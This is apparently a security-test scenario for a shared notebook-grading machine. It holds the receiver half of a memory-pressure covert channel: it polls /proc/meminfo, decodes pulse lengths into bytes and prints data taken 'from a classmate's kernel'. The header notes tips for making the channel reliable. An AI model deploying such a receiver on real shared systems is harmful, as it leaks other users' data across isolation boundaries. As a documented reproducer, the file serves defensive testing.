# scenario: NOT FIXED (reproducer, not graded by the suite): receiver half: a cell before any hidden test polls /proc/meminfo for 112 s, decodes the pulse lengths and prints the bytes, which its feedback page shows (it ran before hidden tests). Measured on this shared 2-core machine: pulses of 0.3 s and 0.8 s arrive as 0.32-0.34 and 0.81-0.84 s, but other load merges some, so the decoded bytes were partly wrong; better coding (or a larger swing) would make it reliable. /proc/stat and /proc/loadavg, and CPU contention itself, are channels of the same kind
# base: solution
# expect-status: graded
# expect-fail:
# %% append setup
import time as _time


def _available():
    with open("/proc/meminfo") as handle:
        for line in handle:
            if line.startswith("MemAvailable:"):
                return int(line.split()[1]) // 1024  # MiB


_history, _pulses, _low_since, _started = [], [], None, _time.monotonic()
while _time.monotonic() - _started < 112 and len(_pulses) < 41:
    now, value = _time.monotonic(), _available()
    if _low_since is None:
        _history = [(t, v) for t, v in _history if now - t < 3] + [(now, value)]
        if value < max(v for _, v in _history) - 300:
            _low_since, _lowest = now, value
    else:
        _lowest = min(_lowest, value)
        if value > _lowest + 300:
            duration = now - _low_since
            if _pulses or duration > 1.1:
                _pulses.append(duration)
            _low_since, _history = None, [(now, value)]
    _time.sleep(0.01)
_bits = [1 if d > 0.55 else 0 for d in _pulses[1:]]
_leak = bytes(int("".join(map(str, _bits[i:i + 8])), 2) for i in range(0, len(_bits) - len(_bits) % 8, 8))
print("pulses", [round(d, 2) for d in _pulses])
print("received from a classmate's kernel:", _leak)
